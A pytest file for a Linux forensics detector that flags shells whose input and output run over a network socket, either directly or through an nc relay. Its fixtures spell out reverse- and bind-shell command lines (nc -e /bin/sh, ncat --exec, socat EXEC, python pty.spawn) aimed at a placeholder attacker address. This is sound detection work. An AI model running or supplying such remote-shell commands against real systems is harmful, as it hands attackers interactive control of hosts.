"""Shells that the network commands, and shells that only look like it."""

import pytest
from tests.detect.examples import example, judged, process

from rootout.collect.artifacts.sockets import Socket
from rootout.detect.checks.shell_on_a_socket import judge
from rootout.model.entity import Entity

ATTACKER = "203.0.113.9"


def shell(*words: str, pid: int = 7, program: str = "/usr/bin/bash", **given):
    streams = given.pop("streams", ("socket:[5]",) * 3)
    return process(pid, executable=program, arguments=words, streams=streams, **given)


def connection(**given):
    common = {
        "protocol": "tcp",
        "state": "established",
        "inode": 5,
        "remote_address": ATTACKER,
        "remote_port": 4444,
    }
    return example(Socket, **common | given)


@pytest.mark.parametrize(
    "guilty",
    [
        shell("bash", "-i"),
        shell("bash"),
        shell("sh", program="/usr/bin/dash"),
        shell("python3", "-c", "import pty; pty.spawn('sh')", program="/usr/bin/python3.11"),
        shell("perl", "-e", "exec 'sh'", program="/usr/bin/perl"),
    ],
)
def test_shell_whose_streams_are_a_connection_is_found(guilty):
    (found,) = judged(judge, guilty, connection())
    assert found.severity == "critical"
    assert found.entities == (Entity("process", guilty.key), Entity("address", ATTACKER))


def test_shell_behind_a_relay_is_found():
    pipes = ("pipe:[1]", "pipe:[2]", "pipe:[2]")
    guilty = shell("sh", "-i", program="/usr/bin/dash", streams=pipes)
    relay = process(
        8,
        executable="/usr/bin/nc.openbsd",
        arguments=("nc", ATTACKER, "4444"),
        streams=("pipe:[2]", "pipe:[1]", ""),
        socket_inodes=(5,),
    )
    (found,) = judged(judge, guilty, relay, connection())
    assert found.entities[0] == Entity("process", guilty.key)


@pytest.mark.parametrize(
    "words",
    [
        ("nc.traditional", "-l", "-p", "40404", "-e", "/bin/sh"),
        ("ncat", "--exec", "/bin/bash", "-l", "1"),
        ("socat", "TCP-LISTEN:1,fork", "EXEC:/bin/sh"),
    ],
)
def test_relay_that_hands_out_a_shell_is_found_with_its_port(words):
    relay = process(7, executable=f"/usr/bin/{words[0]}", arguments=words, socket_inodes=(5,))
    waiting = connection(state="listen", remote_address="", local_port=40404)
    (found,) = judged(judge, relay, waiting)
    assert found.entities == (Entity("process", relay.key), Entity("port", "tcp/40404"))


@pytest.mark.parametrize(
    "innocent",
    [
        shell("bash", "/usr/local/bin/service.sh"),
        shell("python3", "/opt/server.py", program="/usr/bin/python3.11"),
        shell("sh", "-c", "tar c /srv | nc backup 1"),
        shell("bash", streams=("/dev/pts/0",) * 3),
        shell("bash", streams=("/dev/pts/0", "pipe:[2]", "/dev/pts/0")),
        shell("bash", streams=("socket:[99]",) * 3),
        shell("bash", streams=("socket:[x]",) * 3),
        shell("bash", streams=()),
        shell("nginx", program="/usr/sbin/nginx"),
        shell("nc", "-z", "host", "80", program="/usr/bin/nc.openbsd"),
    ],
)
def test_ordinary_process_is_left_alone(innocent):
    relay = process(
        8, executable="/usr/bin/nc.openbsd", arguments=("nc",), streams=("pipe:[2]",),
        socket_inodes=(5,),
    )  # fmt: skip
    assert judged(judge, innocent, relay, connection(), connection(inode=99, protocol="unix")) == []


def test_shell_between_pipes_of_its_own_is_left_alone():
    first = shell("sh", streams=("pipe:[1]", "pipe:[2]", ""))
    second = process(
        8, executable="/usr/bin/grep", streams=("pipe:[2]", "", ""), socket_inodes=(5,)
    )
    assert judged(judge, first, second, connection()) == []
